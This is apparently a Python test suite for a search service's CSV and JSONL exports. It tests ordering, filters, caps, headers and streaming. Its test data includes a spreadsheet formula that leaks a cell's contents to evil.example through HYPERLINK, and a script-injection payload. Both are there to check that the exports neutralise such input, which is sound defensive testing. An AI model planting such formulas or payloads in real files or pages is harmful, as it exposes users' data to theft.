"""Exports (``/search?format=csv|jsonl``): every hit of a search, streamed, through the real app
over the small index and the spreadsheet index (``conftest.SPREADSHEET_RECORDS``), and through
real gunicorn."""

from __future__ import annotations

import csv
import io
import json
import re
import urllib.request
from pathlib import Path
from typing import Any

import pytest
from falcon import testing

from indexer.build import rebuild
from indexer.guards import RemovalLimit
from searchsvc.app import create_app
from searchsvc.engine import Engine
from searchsvc.export import BATCH, CSV_COLUMNS, neutralised
from searchsvc.settings import Settings

BOM = "\ufeff"


@pytest.fixture(scope="module")
def sheet(spreadsheet_index: Path) -> testing.TestClient:
    return testing.TestClient(create_app(Settings(index_dir=spreadsheet_index)))


def exported(client: testing.TestClient, **params: str) -> testing.Result:
    result = client.simulate_get("/search", params=params)
    assert result.status_code == 200, result.text
    return result


def csv_rows(result: testing.Result, delimiter: str = ",") -> list[dict[str, str]]:
    text = result.content.decode("utf-8")
    assert text.startswith(BOM)
    rows = list(csv.reader(io.StringIO(text[len(BOM) :], newline=""), delimiter=delimiter))
    assert tuple(rows[0]) == CSV_COLUMNS
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def jsonl_records(result: testing.Result) -> list[dict[str, Any]]:
    assert result.headers["content-type"] == "application/x-ndjson"
    return [json.loads(line) for line in result.content.decode("utf-8").splitlines()]


def paged_ids(client: testing.TestClient, params: dict[str, str]) -> tuple[int, list[str]]:
    """The total and the ids of every hit, read a page of 100 at a time from /search."""
    ids: list[str] = []
    page = 1
    while True:
        body = client.simulate_get("/search", params={**params, "size": "100",
                                                      "page": str(page), "facets": ""}).json
        ids += [hit["id"] for hit in body["hits"]]
        if page * 100 >= body["total"]:
            return body["total"], ids
        page += 1


# --- every hit, as /search finds them -----------------------------------------------------------

SEARCHES = [
    {},
    {"sort": "newest"},
    {"sort": "oldest", "lang": "fi,sv"},
    {"q": "tarkastuslautakunta OR kaupunki OR court OR domstol"},
    {"q": "kaupunki", "type": "agenda_item"},
    {"lang": "en", "year_from": "2020", "year_to": "2024", "sort": "newest"},
    {"year": "2021,2022", "org": "city_of_helsinki"},
    {"division": "central_administration", "sort": "oldest"},
    {"q": "konkurssipesä", "cross_lang": "1"},
]


def _named(params: dict[str, str]) -> str:
    return "&".join(f"{k}={v}" for k, v in params.items()) or "everything"


@pytest.mark.parametrize("params", SEARCHES, ids=_named)
def test_an_export_is_every_hit_of_the_search_in_its_order(client, params):
    total, ids = paged_ids(client, params)
    jsonl = exported(client, **params, format="jsonl")
    as_csv = exported(client, **params, format="csv")
    for result in (jsonl, as_csv):
        assert result.headers["x-total-count"] == str(total)
        assert result.headers["x-export-count"] == str(total)
        assert result.headers["x-export-capped"] == "false"
    assert [record["id"] for record in jsonl_records(jsonl)] == ids
    assert [row["id"] for row in csv_rows(as_csv)] == ids


def test_an_export_larger_than_a_page_honours_every_filter(client):
    everything = jsonl_records(exported(client, format="jsonl"))
    assert len(everything) > 100  # more than the largest page
    records = jsonl_records(exported(
        client, format="jsonl", lang="fi", year_from="2000", year_to="2022",
        type="agenda_item,court_decision", sort="oldest"))
    assert 0 < len(records) < len(everything)
    assert all(r["lang"] == "fi" and 2000 <= r["year"] <= 2022 for r in records)
    assert {r["type"]["key"] for r in records} == {"agenda_item", "court_decision"}
    dates = [r["date"] or str(r["year"]) for r in records]
    assert dates == sorted(dates)
    divisions = jsonl_records(exported(client, format="jsonl",
                                       division="central_administration", org="city_of_helsinki"))
    assert divisions and all(r["division"]["key"] == "central_administration"
                             and r["org"]["key"] == "city_of_helsinki" for r in divisions)
    years = jsonl_records(exported(client, format="jsonl", year="2021"))
    assert years and {r["year"] for r in years} == {2021}


def test_a_record_is_exported_as_its_hit_with_a_permalink_and_a_plain_snippet(client):
    params = {"q": "kaupunginhallitus päätti omaishoidon", "ui": "fi"}
    (hit,) = [h for h in client.simulate_get("/search", params=params).json["hits"]
              if h["id"] == "xss-1"]
    (record,) = [r for r in jsonl_records(exported(client, **params, format="jsonl"))
                 if r["id"] == "xss-1"]
    assert "<mark>" in hit["snippet"]
    plain = hit["snippet"].replace("<mark>", "").replace("</mark>", "")
    assert record["snippet"] == plain.replace("&lt;", "<").replace("&gt;", ">").replace(
        "&#x27;", "'")
    assert "<script>alert('x')</script>" in record["snippet"]
    assert record["permalink"] == "http://falconframework.org/documents/xss-1"
    assert {k: v for k, v in record.items() if k not in ("snippet", "permalink")} == {
        k: v for k, v in hit.items() if k not in ("snippet", "score")}


def test_labels_are_in_the_ui_language(client):
    for ui, label in (("fi", "Helsingin kaupunki"), ("sv", "Helsingfors stad")):
        rows = csv_rows(exported(client, format="csv", org="city_of_helsinki", ui=ui))
        assert rows and {row["org_label"] for row in rows} == {label}


def test_the_permalinks_use_the_public_url(small_index):
    client = testing.TestClient(create_app(Settings(
        index_dir=small_index, public_url="https://haku.example.fi/api")))
    rows = csv_rows(exported(client, format="csv", q="kokous"))
    assert rows and all(row["permalink"].startswith("https://haku.example.fi/api/documents/")
                        for row in rows)


# --- CSV that spreadsheets read as written ------------------------------------------------------


def test_csv_round_trips_every_field_of_every_record(sheet):
    raw = exported(sheet, format="csv")
    assert raw.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert raw.content.startswith("\ufeff".encode())
    assert raw.content.endswith(b"\r\n")
    assert re.search(rb"[^\r]\n[^\n]*\r\n", raw.content)  # a line break inside a cell stays LF
    rows = csv_rows(raw)
    records = jsonl_records(exported(sheet, format="jsonl"))
    assert len(rows) == len(records) == int(raw.headers["x-total-count"]) > BATCH // 10
    for row, record in zip(rows, records, strict=True):
        expected = dict(record)
        for name in ("type", "division", "org"):
            keyed = record[name] or {}
            expected[name], expected[f"{name}_label"] = keyed.get("key"), keyed.get("label")
        assert row == {column: "" if expected[column] is None else str(neutralised(
            expected[column])) for column in CSV_COLUMNS}


def test_quotes_semicolons_commas_and_line_breaks_come_back_intact(sheet):
    rows = {row["id"]: row for row in csv_rows(exported(sheet, format="csv", q="hyväksytään"))}
    quoted = rows["export:quotes"]
    assert quoted["title"] == 'Päätös "A"; kohta 2, liite 3\nJatkuu toisella rivillä'
    assert quoted["snippet"] == ('Kaupunginhallitus päätti: "hyväksytään"; lisäksi, todettiin '
                                 "arvio valmiiksi.")


def test_a_formula_is_neutralised_in_csv_and_raw_in_jsonl(sheet):
    title = '=HYPERLINK("https://evil.example/?leak="&A1;"Avaa")'
    rows = {row["id"]: row for row in csv_rows(exported(sheet, format="csv"))}
    assert rows["export:formula"]["title"] == "'" + title
    assert rows["export:signs"]["title"] == "'-5 % määrärahoista"
    assert rows["export:signs"]["snippet"].startswith("'+1 tarkastuslautakunta")
    assert not [value for row in rows.values() for value in row.values()
                if value.startswith(("=", "+", "-", "@", "\t", "\r"))]
    records = {r["id"]: r for r in jsonl_records(exported(sheet, format="jsonl"))}
    assert records["export:formula"]["title"] == title
    assert records["export:signs"]["snippet"].startswith("+1 tarkastuslautakunta")


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_start_is_neutralised(value):
    assert neutralised(value) == "'" + value
    assert neutralised("a" + value) == "a" + value
    assert neutralised(2021) == 2021


def test_the_semicolon_variant_parses_with_semicolons(sheet):
    comma = csv_rows(exported(sheet, format="csv"))
    semicolon = exported(sheet, format="csv", delimiter="semicolon")
    assert semicolon.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    text = semicolon.content.decode("utf-8")
    assert text.startswith(BOM + "id;title;date;")  # no sep= line before the header
    assert csv_rows(semicolon, delimiter=";") == comma


# --- the cap, headers, errors -------------------------------------------------------------------


def test_the_cap_holds_and_the_headers_say_so(spreadsheet_index, sheet):
    everything = jsonl_records(exported(sheet, format="jsonl"))
    capped = testing.TestClient(create_app(Settings(index_dir=spreadsheet_index,
                                                    export_max_records=7)))
    for fmt in ("csv", "jsonl"):
        result = exported(capped, format=fmt)
        assert result.headers["x-total-count"] == str(len(everything))
        assert result.headers["x-export-count"] == "7"
        assert result.headers["x-export-capped"] == "true"
    assert jsonl_records(exported(capped, format="jsonl")) == everything[:7]
    assert len(csv_rows(exported(capped, format="csv"))) == 7
    few = exported(capped, format="csv", q='"todettiin arvio valmiiksi"')
    assert (few.headers["x-export-count"], few.headers["x-export-capped"]) == ("1", "false")


def test_an_export_is_a_download_named_after_the_generation(sheet, spreadsheet_index):
    generation = (spreadsheet_index / "CURRENT").read_text().strip()
    for fmt in ("csv", "jsonl"):
        result = exported(sheet, format=fmt)
        assert result.headers["content-disposition"] == (
            f'attachment; filename="searchsvc-export-{generation}.{fmt}"')
        assert result.headers["etag"] == f'"{generation}"'
        again = sheet.simulate_get("/search", params={"format": fmt},
                                   headers={"If-None-Match": f'"{generation}"'})
        assert (again.status_code, again.content) == (304, b"")
        assert again.headers["etag"] == f'"{generation}"'
    head = sheet.simulate_head("/search", params={"format": "csv"})
    assert head.status_code == 200 and head.content == b""
    assert head.headers["x-total-count"] == exported(sheet, format="csv").headers["x-total-count"]


@pytest.mark.parametrize(("query", "named"), [
    ("format=xml", ['"format"']),
    ("format=CSV", ['"format"']),
    ("delimiter=semicolon", ['"delimiter"']),
    ("format=jsonl&delimiter=comma", ['"delimiter"']),
    ("format=csv&delimiter=tab", ['"delimiter"']),
    ("format=csv&page=2", ['"page"']),
    ("format=csv&size=100", ['"size"']),
    ("format=jsonl&facets=lang", ['"facets"']),
    ("format=jsonl&histogram=year", ['"histogram"']),
    ("format=csv&page=1&size=10", ['"page"', '"size"']),
])
def test_bad_export_parameters_are_400s_naming_them(client, query, named):
    result = client.simulate_get("/search", query_string=query)
    assert result.status_code == 400, result.text
    assert all(name in result.json["description"] for name in named)


# --- one generation throughout, and real gunicorn -----------------------------------------------


@pytest.mark.slow
def test_an_export_reads_one_generation_while_another_is_published(published_copy):
    """The stream's first chunk is sent, a rebuild publishes a generation without half the
    records, the engine switches to it, and the rest of the stream is still the old one."""
    corpus, index_dir = published_copy
    engine = Engine(index_dir, check_interval=0.0)
    app = create_app(Settings(index_dir=index_dir), engine=engine)
    client = testing.TestClient(app)
    before = [r["id"] for r in jsonl_records(exported(client, format="jsonl"))]
    old = engine.snapshot().generation
    environ = testing.create_environ("/search", query_string="format=csv")
    started: list[str] = []
    chunks = iter(app(environ, lambda status, headers: started.append(status)))
    first = next(chunks)
    assert started == ["200 OK"] and first.startswith("\ufeffid,".encode())
    path = corpus / "records" / "records.jsonl"
    lines = path.read_text(encoding="utf-8").splitlines()
    path.write_text("\n".join(lines[: len(lines) // 2]) + "\n", encoding="utf-8")
    rebuild([corpus], index_dir, jobs=1, removal_limit=RemovalLimit(percent=100))
    assert engine.snapshot().generation != old  # new requests get the new generation
    after = [r["id"] for r in jsonl_records(exported(client, format="jsonl"))]
    assert len(after) < len(before)
    rest = b"".join(chunks)
    getattr(chunks, "close", lambda: None)()
    text = (first + rest).decode("utf-8")[len(BOM) :]
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["id"] for row in rows] == before
    engine.close()


@pytest.mark.slow
def test_an_export_streams_through_gunicorn(spreadsheet_index, sheet, gunicorn):
    expected = jsonl_records(exported(sheet, format="jsonl", sort="newest"))
    with gunicorn(spreadsheet_index, export_max_records="30") as server:
        url = f"{server.base}/search?format=csv&delimiter=semicolon&sort=newest"
        with urllib.request.urlopen(url, timeout=30) as answer:
            headers = answer.headers
            body = answer.read()
    assert headers["Transfer-Encoding"] == "chunked"  # sent as it is read, length unknown
    assert headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert headers["X-Total-Count"] == str(len(expected)) and len(expected) > 30
    assert (headers["X-Export-Count"], headers["X-Export-Capped"]) == ("30", "true")
    text = body.decode("utf-8")
    assert text.startswith(BOM)
    rows = list(csv.DictReader(io.StringIO(text[len(BOM) :], newline=""), delimiter=";"))
    assert [row["id"] for row in rows] == [r["id"] for r in expected[:30]]
    assert rows[0]["permalink"].startswith(server.base + "/documents/")


# --- the documented examples, on the shipped corpus ---------------------------------------------


def documented_exports(root: Path) -> list[tuple[str, list[str], list[str]]]:
    """(request, status and header lines, body lines) of each example of docs/api.md's
    Exports section."""
    text = (root / "docs" / "api.md").read_text(encoding="utf-8")
    section = text[text.index("## Exports") : text.index("## Counts over time")]
    assert "With `SEARCHSVC_PUBLIC_URL=https://haku.example.fi`" in section
    examples = []
    for block in re.findall(r"```http\n(.*?)```", section, re.S):
        head, _, body = block.partition("\n\n")
        request, *answer = head.splitlines()
        examples.append((request.removeprefix("GET "), answer, body.splitlines()))
    return examples


@pytest.mark.slow
def test_the_documented_exports_answer_as_written(root, shipped_index):
    client = testing.TestClient(create_app(Settings(index_dir=shipped_index,
                                                    public_url="https://haku.example.fi")))
    generation = (shipped_index / "CURRENT").read_text().strip()
    examples = documented_exports(root)
    assert [request.partition("format=")[2][:3] for request, _, _ in examples] == ["csv", "jso"]
    for request, (status, *headers), lines in examples:
        route, _, query = request.partition("?")
        result = client.simulate_get(route, query_string=query)
        assert str(result.status_code) == status, request
        for header in headers:
            name, _, value = header.partition(": ")
            assert result.headers[name] == value.replace("<generation>", generation), header
        text = result.content.decode("utf-8")
        assert text.startswith(BOM) == ("format=csv" in request)
        separator = "\r\n" if "format=csv" in request else "\n"
        assert text.lstrip(BOM).split(separator)[: len(lines)] == lines, request
        if "format=csv" in request:  # read as the section says: utf-8-sig, newline=""
            handle = io.TextIOWrapper(io.BytesIO(result.content), encoding="utf-8-sig",
                                      newline="")
            rows = list(csv.DictReader(handle, delimiter=";"))
            assert len(rows) == int(result.headers["x-total-count"])


def test_the_openapi_document_describes_exports(client):
    answer = client.simulate_get("/openapi.json").json["paths"]["/search"]["get"]["responses"]
    ok = answer["200"]
    assert set(ok["content"]) == {"application/json", "text/csv", "application/x-ndjson"}
    assert set(ok["headers"]) == {"X-Total-Count", "X-Export-Count", "X-Export-Capped",
                                  "Content-Disposition"}
    parameters = {p["name"]: p for p in
                  client.simulate_get("/openapi.json").json["paths"]["/search"]["get"]
                  ["parameters"]}
    assert parameters["format"]["schema"]["enum"] == ["json", "csv", "jsonl"]
    assert parameters["delimiter"]["schema"]["enum"] == ["comma", "semicolon"]


def test_a_search_links_its_exports_as_documented(root, small_index):
    """docs/api.md's example of ``links``, run as written; each link exports that search."""
    text = (root / "docs" / "api.md").read_text(encoding="utf-8")
    request, documented = re.search(
        r"```\nGET (/search\?q=omaishoito&lang=fi&sort=newest&page=2)\n(\{.*?\}), …\}\n```",
        text, re.S).groups()  # type: ignore[union-attr]
    links = json.loads(documented.replace('{"total": …, "links": ', ""))
    client = testing.TestClient(create_app(Settings(
        index_dir=small_index, public_url="https://haku.example.fi")))
    path, _, query = request.partition("?")
    answer = client.simulate_get(path, query_string=query).json
    assert answer["links"] == links and answer["total"] > 1
    for name in ("csv", "csv_semicolon", "jsonl"):
        exported = client.simulate_get("/search", query_string=links[name].partition("?")[2])
        assert exported.headers["x-export-count"] == str(answer["total"]), name
    order = csv_rows(client.simulate_get("/search", query_string=links["csv"].partition("?")[2]))
    newest = client.simulate_get("/search", query_string="q=omaishoito&lang=fi&sort=newest"
                                 "&size=100&facets=").json["hits"]
    assert [row["id"] for row in order] == [hit["id"] for hit in newest]
